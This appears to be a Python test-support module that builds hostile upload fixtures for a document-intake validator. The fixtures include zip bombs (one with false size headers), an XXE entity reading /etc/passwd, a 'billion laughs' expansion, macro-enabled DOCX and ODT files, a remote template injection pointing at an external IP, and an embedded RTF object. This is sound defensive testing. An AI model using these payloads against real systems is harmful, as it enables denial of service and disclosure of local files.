"""Hostile response documents made at test time (tests/intake_support.py makes the real ones).

Nothing here is stored in git: each file is built from a real document with a few bytes of
zip surgery, or from scratch. The zip bomb is written without ever being inflated, so building
a document that inflates to gigabytes costs the test a few megabytes of memory and a second.
"""

from __future__ import annotations

import io
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

GIB = 1024**3
MACRO_CONTENT_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_MAIN_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_FIXED_TIME = (2027, 1, 4, 9, 0, 0)


# --- zip surgery ----------------------------------------------------------------------------


def rewrite_zip(
    source: Path, target: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes]
) -> Path:
    """Copy a zip entry by entry; ``change`` may replace an entry's bytes (None drops it); ``extra`` adds entries."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in original.infolist():
            data = change(info.filename, original.read(info))
            if data is not None:
                copy.writestr(zipfile.ZipInfo(info.filename, _FIXED_TIME), data, zipfile.ZIP_DEFLATED)
        for name, data in extra.items():
            copy.writestr(zipfile.ZipInfo(name, _FIXED_TIME), data, zipfile.ZIP_DEFLATED)
    return target


def _minimal_docx_parts() -> dict[str, bytes]:
    """The smallest package parts Word needs besides word/document.xml."""
    return {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" ContentType="' + DOCX_MAIN_CONTENT_TYPE.encode() + b'"/>'
            b"</Types>"
        ),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Target="word/document.xml" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
            b"</Relationships>"
        ),
    }


W_NAMESPACE = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def zip_bomb_docx(folder: Path, *, inflated_bytes: int = 7 * GIB // 2) -> Path:
    """A DOCX whose word/document.xml inflates to ``inflated_bytes`` (3.5 GiB) of well-formed XML."""
    return _bomb(folder / "bomb.docx", inflated_bytes, declared_bytes=None)


def lying_zip_bomb_docx(folder: Path, *, inflated_bytes: int = 1 * GIB, declared_bytes: int = 4096) -> Path:
    """A zip bomb whose headers claim word/document.xml is ``declared_bytes`` long: only bounded reading stops it."""
    return _bomb(folder / "lying-bomb.docx", inflated_bytes, declared_bytes=declared_bytes)


@dataclass(frozen=True)
class _RawEntry:
    name: str
    segments: list[bytes]  # raw deflate data, written in order
    crc: int
    size: int  # the uncompressed size the headers declare


def _bomb(path: Path, inflated_bytes: int, *, declared_bytes: int | None) -> Path:
    """Write the bomb without inflating it once: one deflate segment of 1 MiB of spaces, repeated.

    A segment compressed by a fresh compressor and ended with a full flush refers to nothing
    before it and ends on a byte boundary, so copies of it can be concatenated into one valid
    deflate stream. The file is a few MB; building it needs no more memory than one segment.
    """
    block = b" " * (1024 * 1024)
    head = b"<w:document " + W_NAMESPACE + b"><w:body>"
    tail = b"<w:p><w:r><w:t>boom</w:t></w:r></w:p></w:body></w:document>"
    repeats = max(1, (inflated_bytes - len(head) - len(tail)) // len(block))
    if len(head) + repeats * len(block) + len(tail) >= 0xFFFFFFFF:
        raise ValueError("keep the bomb under 4 GiB: this writer has no zip64 records")
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    document = _RawEntry(
        "word/document.xml",
        [_deflate(head, final=False), *([_deflate(block, final=False)] * repeats), _deflate(tail, final=True)],
        crc,
        declared_bytes if declared_bytes is not None else len(head) + repeats * len(block) + len(tail),
    )
    small = [
        _RawEntry(name, [_deflate(data, final=True)], zlib.crc32(data), len(data))
        for name, data in _minimal_docx_parts().items()
    ]
    path.parent.mkdir(parents=True, exist_ok=True)
    _write_raw_zip(path, [*small, document])
    return path


def _deflate(data: bytes, *, final: bool) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def _write_raw_zip(path: Path, entries: list[_RawEntry]) -> None:
    dos_time, dos_date = 9 << 11, ((2027 - 1980) << 9) | (1 << 5) | 4
    directory = b""
    with path.open("wb") as out:
        for entry in entries:
            name = entry.name.encode()
            compressed = sum(len(segment) for segment in entry.segments)
            offset = out.tell()
            header = (b"PK\x03\x04", 20, 0, 8, dos_time, dos_date, entry.crc, compressed, entry.size, len(name), 0)
            out.write(struct.pack("<4s5H3L2H", *header) + name)
            for segment in entry.segments:
                out.write(segment)
            record = (b"PK\x01\x02", 20, 20, 0, 8, dos_time, dos_date, entry.crc, compressed, entry.size)
            directory += struct.pack("<4s6H3L5H2L", *record, len(name), 0, 0, 0, 0, 0o644 << 16, offset) + name
        start = out.tell()
        out.write(directory)
        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0))


def external_entity_docx(docx: Path, folder: Path) -> Path:
    """word/document.xml declares an external entity (XXE) reading a local file."""
    payload = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
        b'<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        b"<w:document " + W_NAMESPACE + b"><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"
    )
    return rewrite_zip(docx, folder / "xxe.docx", lambda n, d: payload if n == "word/document.xml" else d, {})


def entity_expansion_docx(docx: Path, folder: Path) -> Path:
    """[Content_Types].xml carries a "billion laughs" internal entity expansion."""
    laughs = b'<!DOCTYPE Types [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    laughs += b"".join(
        b'<!ENTITY %s "%s">' % (chr(99 + i).encode(), (b"&" + chr(98 + i).encode() + b";") * 10) for i in range(7)
    )
    laughs += b"]>"

    def change(name: str, data: bytes) -> bytes:
        if name != "[Content_Types].xml":
            return data
        head, _, rest = data.partition(b"?>")
        return head + b"?>" + laughs + rest.replace(b"</Types>", b"<!-- &i; --></Types>")

    return rewrite_zip(docx, folder / "laughs.docx", change, {})


def docm(docx: Path, folder: Path, name: str = "macros.docm") -> Path:
    """A macro-enabled Word document: vbaProject.bin plus the macroEnabled main content type."""

    def change(part: str, data: bytes) -> bytes:
        if part == "[Content_Types].xml":
            data = data.replace(DOCX_MAIN_CONTENT_TYPE.encode(), MACRO_CONTENT_TYPE.encode())
            return data.replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            )
        if part == "word/_rels/document.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Target="vbaProject.bin" '
                b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>',
            )
        return data

    # A real vbaProject.bin is an OLE file; its content does not matter to the check.
    return rewrite_zip(
        docx, folder / name, change, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)}
    )


def docm_renamed_docx(docx: Path, folder: Path) -> Path:
    return docm(docx, folder, name="renamed-macros.docx")


def macro_content_type_only_docx(docx: Path, folder: Path) -> Path:
    """Only [Content_Types].xml says macroEnabled (no vbaProject.bin)."""

    def change(part: str, data: bytes) -> bytes:
        if part == "[Content_Types].xml":
            return data.replace(DOCX_MAIN_CONTENT_TYPE.encode(), MACRO_CONTENT_TYPE.encode())
        return data

    return rewrite_zip(docx, folder / "content-type-macros.docx", change, {})


def encrypted_docx(docx: Path, folder: Path) -> Path:
    """A password-protected DOCX as Office writes it: the package encrypted inside an OLE2 compound file."""
    from msoffcrypto.format.ooxml import OOXMLFile

    target = folder / "encrypted.docx"
    folder.mkdir(parents=True, exist_ok=True)
    with docx.open("rb") as plain, target.open("wb") as out:
        OOXMLFile(plain).encrypt("Passw0rd", out)
    return target


def encrypted_pdf(pdf: Path, folder: Path, *, user_password: str = "Passw0rd", name: str = "encrypted.pdf") -> Path:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(pdf))
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    target = folder / name
    folder.mkdir(parents=True, exist_ok=True)
    with target.open("wb") as out:
        writer.write(out)
    return target


def restricted_pdf(pdf: Path, folder: Path) -> Path:
    """Encrypted with an owner password only: it opens without a password but is still /Encrypt-ed."""
    return encrypted_pdf(pdf, folder, user_password="", name="restricted.pdf")


def executable_renamed_docx(folder: Path) -> Path:
    target = folder / "invoice.docx"
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(shutil.which("true") or "/bin/true", target)
    return target


def empty_file(folder: Path) -> Path:
    target = folder / "empty.docx"
    folder.mkdir(parents=True, exist_ok=True)
    target.write_bytes(b"")
    return target


def html_renamed_docx(folder: Path) -> Path:
    target = folder / "page.docx"
    folder.mkdir(parents=True, exist_ok=True)
    target.write_text("<!DOCTYPE html><html><body><p>Our response</p></body></html>", encoding="utf-8")
    return target


def plain_text_renamed_pdf(folder: Path) -> Path:
    target = folder / "notes.pdf"
    folder.mkdir(parents=True, exist_ok=True)
    target.write_text("Our response: we agree with the recommendation.\n", encoding="utf-8")
    return target


def workbook_renamed_docx(folder: Path) -> Path:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["response", "agreed"])  # type: ignore[union-attr]
    target = folder / "tracker.docx"
    folder.mkdir(parents=True, exist_ok=True)
    workbook.save(target)
    return target


def many_entries_docx(docx: Path, folder: Path, *, entries: int = 2100) -> Path:
    extra = {f"customXml/extra{number}.xml": b"<a/>" for number in range(entries)}
    return rewrite_zip(docx, folder / "many-entries.docx", lambda n, d: d, extra)


def deeply_nested_docx(docx: Path, folder: Path, *, depth: int = 20_000) -> Path:
    """word/document.xml nests elements ``depth`` deep (small compressed, costly for a tree parser)."""
    body = (
        b"<w:document " + W_NAMESPACE + b"><w:body>" + b"<w:p>" * depth + b"</w:p>" * depth + b"</w:body></w:document>"
    )
    return rewrite_zip(docx, folder / "nested.docx", lambda n, d: body if n == "word/document.xml" else d, {})


def remote_template_docx(docx: Path, folder: Path) -> Path:
    """settings.xml.rels points at a template on a web server (remote template injection)."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="http://203.0.113.9/template.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    return rewrite_zip(docx, folder / "remote-template.docx", lambda n, d: d, {"word/_rels/settings.xml.rels": rels})


def oversized_file(folder: Path, *, size: int = 40 * 1024 * 1024) -> Path:
    """A sparse file beyond the size limit (costs no disk)."""
    target = folder / "huge.pdf"
    folder.mkdir(parents=True, exist_ok=True)
    with target.open("wb") as out:
        out.write(b"%PDF-1.7\n")
        out.truncate(size)
    return target


def odt_with_macros(odt: Path, folder: Path) -> Path:
    module = b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M"/>'
    return rewrite_zip(odt, folder / "macros.odt", lambda n, d: d, {"Basic/Standard/Module1.xml": module})


def rtf_with_object(folder: Path) -> Path:
    target = folder / "object.rtf"
    folder.mkdir(parents=True, exist_ok=True)
    target.write_bytes(
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}Our response}"
    )
    return target


def zip_entry_sizes(path: Path) -> dict[str, tuple[int, int]]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: (info.file_size, info.compress_size) for info in archive.infolist()}


def docx_bytes_with(docx: Path, part: str, data: bytes) -> bytes:
    """The DOCX's bytes with one part replaced (for fuzzing inside a valid container)."""
    out = io.BytesIO()
    with zipfile.ZipFile(docx) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in original.infolist():
            copy.writestr(info.filename, data if info.filename == part else original.read(info))
    return out.getvalue()
